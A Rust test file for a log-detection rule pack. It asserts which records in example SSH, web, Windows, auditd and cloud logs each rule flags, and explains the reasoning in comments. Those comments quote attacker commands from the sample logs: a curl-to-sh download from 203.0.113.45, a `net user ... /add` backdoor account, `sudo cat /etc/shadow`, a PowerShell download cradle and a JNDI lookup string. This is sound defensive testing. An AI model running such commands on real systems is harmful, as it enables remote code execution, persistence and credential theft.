//! The built-in rule pack hunting over `examples/`: exactly which records each rule reports.
//!
//! The expectations below were worked out by hand from the example files (the reasoning is
//! beside each rule); a change in the pack, the readers or the taxonomy that adds or loses
//! a detection shows up here as a diff of `(rule, file:record)` pairs.

use std::collections::BTreeMap;
use std::path::Path;

use vigil_detect::{HuntOptions, HuntReport, hunt};
use vigil_ingest::{Ingest, Plan, ReadOptions};
use vigil_normalize::Taxonomy;
use vigil_sigma::{Detector, Routing, RuleSet, builtin};

/// Every built-in rule's id, what it reports over `examples/` (`path:record`, the path
/// relative to `examples/`), and why.
const EXPECTED: &[(&str, &str, &[&str])] = &[
    // --- ssh.yml ---
    // Base rules of correlations report nothing themselves. SSH failures in auth.log from
    // 203.0.113.45: records 2 (Invalid user admin), 5 (Failed password for invalid user),
    // 7, 8 (Failed password for deploy) and 9 (the "message repeated 3 times" line, one
    // event): 5 within 16 s. Record 4 (PAM) and 10 (max attempts) are not counted.
    (
        "9234e02b-06a5-4d71-b6d2-77504d1a4882",
        "SSH Authentication Failure",
        &[],
    ),
    (
        "e3c4f349-ce29-4e9d-85cc-6881fa2199b4",
        "SSH Successful Login",
        &[],
    ),
    // The fifth failure (record 9, 09:58:17) reaches gte 5; nothing more within the hour.
    (
        "ab454e8b-72fe-47c1-a0ac-61d591581f99",
        "SSH Brute Force From One Address",
        &["case-001/linux/auth.log:9"],
    ),
    // "Accepted password for deploy from 203.0.113.45" (record 12, 10:02:41) follows the
    // brute-force correlation by 4.5 minutes. The public-key login of sysupd (record 26)
    // comes from 198.51.100.77, which guessed nothing.
    (
        "1feb9614-11d2-41d0-87ff-4105b299b46b",
        "SSH Login After Brute Force From The Same Address",
        &["case-001/linux/auth.log:12"],
    ),
    // --- web.yml ---
    // login_access.log: 203.0.113.50 gets 401 on /api/v1/auth/login 12 times (records
    // 4-15) and 403 twice (16, 17) in 48 s; 192.0.2.10 one 401 (record 2). The 401 on
    // /mgmt/tm/util/bash in access.log is not a login URL.
    (
        "ac39c658-df6a-42f8-bdf0-1ac1a56bc8e3",
        "Web Login Rejected",
        &[],
    ),
    // The tenth rejection of 203.0.113.50 is record 13; the rest fall in the suppression.
    (
        "8f19e4bb-dd59-4c3c-977a-e410e6dafa5a",
        "Web Credential Stuffing From One Address",
        &["samples/webaccess/login_access.log:13"],
    ),
    // Nmap Scripting Engine (access.log 4, 5; u_ex240314.log 3), sqlmap (access.log 6),
    // WPScan (other_vhosts 2, 3), zgrab (nginx 3). curl, python-requests and the JNDI
    // string in a User-Agent are not attack tools' names.
    (
        "b70d2dde-3661-4a17-ad29-f559d83e03c4",
        "Web Request From An Attack Tool",
        &[
            "samples/webaccess/access.log:4",
            "samples/webaccess/access.log:5",
            "samples/webaccess/access.log:6",
            "samples/webaccess/nginx_access.log:3",
            "samples/webaccess/other_vhosts_access.log:2",
            "samples/webaccess/other_vhosts_access.log:3",
            "samples/webaccess/u_ex240314.log:3",
        ],
    ),
    // access.log 7: `${jndi:ldap://...}` in the query (URL-encoded) and the User-Agent.
    (
        "c40f5748-dadd-46c2-9156-3ec753df7d13",
        "Log4Shell JNDI Lookup In Web Request",
        &["samples/webaccess/access.log:7"],
    ),
    // --- log_tampering.yml ---
    // 1102 in the evtx_dump export (record 4) and in the Get-WinEvent XML (record 1).
    (
        "6de701d2-8167-423c-8654-315d496f5c98",
        "Windows Security Event Log Cleared",
        &[
            "case-001/windows/security.evtx_dump.jsonl:4",
            "samples/winxml/get-winevent-utf16.xml:1",
        ],
    ),
    // No System log in the examples; see the rule's cases.
    (
        "fdee7560-7846-4b20-a356-51b1bf42f9d3",
        "Windows System Event Log Cleared",
        &[],
    ),
    // audit.log 16 (CONFIG_CHANGE remove_rule), 17 (SERVICE_STOP auditd); audisp-syslog.log
    // 3 (USER_CMD `systemctl stop auditd`).
    (
        "1ab27fde-7f74-46a2-b621-2eb588106638",
        "Linux Audit System Disabled",
        &[
            "samples/auditd/audisp-syslog.log:3",
            "samples/auditd/audit.log:16",
            "samples/auditd/audit.log:17",
        ],
    ),
    // StopLogging, record 3 of the pretty-printed CloudTrail file.
    (
        "c95acc75-2108-45b7-b540-311ee460a4f5",
        "AWS CloudTrail Logging Stopped Or Trail Deleted",
        &["samples/cloudtrail/123456789012_CloudTrail_us-east-1_20240312T1015Z_sample.json:3"],
    ),
    // --- accounts.yml ---
    // 4720 for svc_backup2 (evtx_dump record 3) and svc_backup (Splunk CSV record 8).
    (
        "b61c1f71-5591-40f5-aaf2-f85042f0debe",
        "Windows Local Or Domain User Account Created",
        &[
            "case-001/windows/security.evtx_dump.jsonl:3",
            "samples/csv/splunk-export.csv:8",
        ],
    ),
    // 4732 to Builtin\Administrators in the Splunk JSON export (no TargetSid; by name).
    (
        "e7d00831-19a6-43d9-b5fa-592d55527a5d",
        "Windows Member Added To A Privileged Group",
        &["case-001/siem/splunk-export.json:1"],
    ),
    // 4688 of `cmd.exe /c whoami /all & net user sysupd P@ss1 /add`. The same command in
    // process-events.tsv is generic CSV, which has no log source.
    (
        "26f920b2-cb83-475c-86aa-9e280cc89352",
        "Windows User Created With Net User /add",
        &["samples/winxml/security-eventviewer.xml:4"],
    ),
    // `new user: name=sysupd, UID=0` in auth.log (17) and its RFC 5424 copy (1).
    (
        "b3e5e8f4-e697-4825-8051-c8cd9776680c",
        "Linux Account Created With UID 0",
        &[
            "case-001/linux/auth.log:17",
            "case-001/linux/syslog-rfc5424.log:1",
        ],
    ),
    // `add 'sysupd' to group 'sudo'` (21); its gshadow twin (22) is left out.
    (
        "af820a1e-fd8d-4675-ad5c-850557d8b0ec",
        "Linux User Added To An Administrative Group",
        &["case-001/linux/auth.log:21"],
    ),
    // --- powershell.yml ---
    // `-enc` from Sysmon via Winlogbeat, the Wazuh alert of the same event, Falcon's
    // ProcessRollup2 and `-Enc` in the wevtutil XML. rundll32 (whose parent command line
    // has `-Enc`) is not PowerShell.
    (
        "88bbe370-0ebe-4a4b-9118-3db154123e87",
        "Encoded PowerShell Command Line",
        &[
            "case-001/siem/wazuh-alerts.json:2",
            "case-001/windows/sysmon.winlogbeat.ndjson:1",
            "samples/falcon/fdr.json:2",
            "samples/winxml/sysmon-wevtutil.xml:1",
        ],
    ),
    // The only script block (4104) downloads, it does not decode base64.
    (
        "bd4f3bff-cacc-4e8e-8a12-e99260a16bbf",
        "PowerShell Script Block Decodes And Runs Base64",
        &[],
    ),
    // --- download_execute.yml ---
    // `IEX (New-Object Net.WebClient).DownloadString(...)` (4104).
    (
        "b4e2b1d1-f6c8-49da-8ca4-dfd1b76c135a",
        "PowerShell Download Cradle In Script Block",
        &["samples/winxml/get-winevent-utf16.xml:2"],
    ),
    // The EXECVE of `bash -c "curl -s http://203.0.113.45/x.sh | sh"`, in audit.log (6)
    // and forwarded by audisp (2). SYSCALL and PROCTITLE records of it are not EXECVE.
    (
        "1cbe5f6f-7d3e-4fc0-a622-61f28081ba55",
        "Linux Download Piped Into A Shell",
        &[
            "samples/auditd/audisp-syslog.log:2",
            "samples/auditd/audit.log:6",
        ],
    ),
    // --- credentials.yml ---
    (
        "ac97b2e4-bd3a-4c08-8645-eefa6dc52891",
        "LSASS Memory Dumped With Comsvcs MiniDump",
        &["samples/winxml/sysmon-wevtutil.xml:3"],
    ),
    // Sysmon 10: powershell.exe opens lsass.exe with 0x1010.
    (
        "ba6f6ce7-b299-4c6a-aabd-e02c45adc05c",
        "LSASS Memory Read By A Script Host Or Living-Off-The-Land Binary",
        &["case-001/windows/sysmon.winlogbeat.ndjson:2"],
    ),
    // `sudo cat /etc/shadow` (auth.log 14). The same command in the Splunk CSV is a
    // `linux_secure` row without a log source.
    (
        "1a19f389-34ee-4386-89a4-744a77305265",
        "Linux Password Hashes Read Through Sudo",
        &["case-001/linux/auth.log:14"],
    ),
    // --- cloud.yml ---
    (
        "5f8bb04f-dfe9-4ad1-b659-884f6db70f73",
        "AWS Console Login Without MFA",
        &["samples/cloudtrail/123456789012_CloudTrail_us-east-1_20240312T1015Z_sample.json:1"],
    ),
    // Global Administrator for svc-sync (Azure Monitor record 1). The Graph "Add member to
    // group" (VPN-Admins) is a group, not a directory role.
    (
        "b94b13bc-9f89-4830-9fa4-bd12bb8bde19",
        "Entra ID Privileged Directory Role Assigned",
        &["samples/azure/auditlogs.json:1"],
    ),
    // StrongAuthenticationRequirement State 1 -> 0 for j.doe (record 2).
    (
        "6f9539a8-a8a7-4c09-af44-e2c83ae51a2d",
        "Entra ID Per-User MFA Disabled",
        &["samples/azure/auditlogs.json:2"],
    ),
    // roles/owner to an outside account (record 2).
    (
        "1b48601f-bd14-433d-ad57-f2296e570569",
        "GCP Owner Or Editor Role Granted",
        &["samples/gcp/cloudaudit.json:2"],
    ),
    // --- network.yml ---
    (
        "21496f9c-9879-4356-a22b-8d34aa06d4f6",
        "Firewall Connection Denied",
        &[],
    ),
    // asa-portscan.log: 203.0.113.66 -> 198.51.100.10 denied on 15 ports in 4 s; record
    // 11 is the tenth port (143). 192.0.2.44 tries two ports only.
    (
        "6d64cddc-945b-4c66-a3a4-3a0c6dc2964e",
        "Port Scan Blocked By A Firewall",
        &["samples/asa/asa-portscan.log:11"],
    ),
    // The ET POLICY PowerShell download alert, severity 2.
    (
        "d7ac2c38-abc0-4f14-865d-1c933525e4d0",
        "Suricata Alert Of High Or Medium Severity",
        &["samples/suricata/eve.json:5"],
    ),
    // `failed authentication for user 'admin'` (record 1); the GlobalProtect failure
    // (record 5) is a VPN user, not the management interface.
    (
        "9e0a4300-5726-44b1-8538-c29408378986",
        "PAN-OS Administrator Authentication Failure",
        &["samples/panos/system.log:1"],
    ),
];

fn hunt_examples() -> (HuntReport, usize) {
    let (rules, report) = RuleSet::load(&builtin::sources(), None);
    assert!(report.failed.is_empty(), "{:#?}", report.failed);
    let loaded = report.loaded;
    let detector = Detector::new(rules, Routing::builtin().unwrap());
    let taxonomy = Taxonomy::builtin().unwrap();
    let ingest = Ingest::new(ReadOptions {
        year: Some(2024),
        ..ReadOptions::default()
    });
    let examples = vigil_test_support::examples();
    let plan = Plan::new(std::slice::from_ref(&examples));
    let report = hunt(
        &detector,
        &taxonomy,
        &ingest,
        plan,
        HuntOptions::default(),
        |e| panic!("record error in the examples: {e}"),
    );
    (report, loaded)
}

/// `path:record` of a detection, the path relative to `examples/`.
fn place(path: &str, record: u64) -> String {
    let examples = vigil_test_support::examples();
    let relative = Path::new(path)
        .strip_prefix(&examples)
        .map(|p| p.to_string_lossy().replace('\\', "/"))
        .unwrap_or_else(|_| path.to_string());
    format!("{relative}:{record}")
}

#[test]
fn builtin_pack_reports_exactly_the_expected_records_in_the_examples() {
    let (report, loaded) = hunt_examples();
    assert_eq!(report.summary.parse_errors, 0);
    assert_eq!(loaded, EXPECTED.len(), "every rule has an expectation");

    let mut found: BTreeMap<&str, Vec<String>> = BTreeMap::new();
    for detection in &report.detections {
        let title = EXPECTED
            .iter()
            .find(|(id, _, _)| *id == detection.rule_id)
            .map(|(_, title, _)| *title)
            .unwrap_or_else(|| panic!("unexpected rule {}", detection.rule_id));
        assert_eq!(title, detection.rule_title, "{}", detection.rule_id);
        found
            .entry(title)
            .or_default()
            .push(place(&detection.source.path, detection.source.record));
    }
    let mut expected: BTreeMap<&str, Vec<String>> = BTreeMap::new();
    for (_, title, places) in EXPECTED {
        if !places.is_empty() {
            expected.insert(title, places.iter().map(|p| p.to_string()).collect());
        }
    }
    for places in found.values_mut() {
        places.sort();
    }
    assert_eq!(found, expected);

    let total: usize = EXPECTED.iter().map(|(_, _, p)| p.len()).sum();
    assert_eq!(report.summary.detections, total as u64);
    // SSH brute force, the login after it, web credential stuffing, the port scan.
    assert_eq!(report.summary.correlations, 4);
}

#[test]
fn every_example_folder_with_attacks_yields_a_detection() {
    let (report, _) = hunt_examples();
    let examples = vigil_test_support::examples();
    let mut folders: BTreeMap<String, usize> = BTreeMap::new();
    for entry in walk(&examples) {
        let folder = entry.parent().unwrap();
        let key = folder
            .strip_prefix(&examples)
            .unwrap()
            .to_string_lossy()
            .replace('\\', "/");
        folders.entry(key).or_default();
    }
    for detection in &report.detections {
        let folder = Path::new(&detection.source.path).parent().unwrap();
        let key = folder
            .strip_prefix(&examples)
            .unwrap()
            .to_string_lossy()
            .replace('\\', "/");
        *folders.entry(key).or_default() += 1;
    }
    // CEF and LEEF events carry no Sigma log source (the taxonomy gives these transport
    // formats none), so no rule can apply to them.
    let without: Vec<&str> = folders
        .iter()
        .filter(|(_, n)| **n == 0)
        .map(|(f, _)| f.as_str())
        .collect();
    assert_eq!(without, ["samples/cef", "samples/leef"], "{folders:#?}");
}

/// The files under a folder, recursively, without READMEs.
fn walk(dir: &Path) -> Vec<std::path::PathBuf> {
    let mut out = Vec::new();
    for entry in std::fs::read_dir(dir).unwrap() {
        let path = entry.unwrap().path();
        if path.is_dir() {
            out.extend(walk(&path));
        } else if path.file_name().is_some_and(|n| n != "README.md") {
            out.push(path);
        }
    }
    out
}
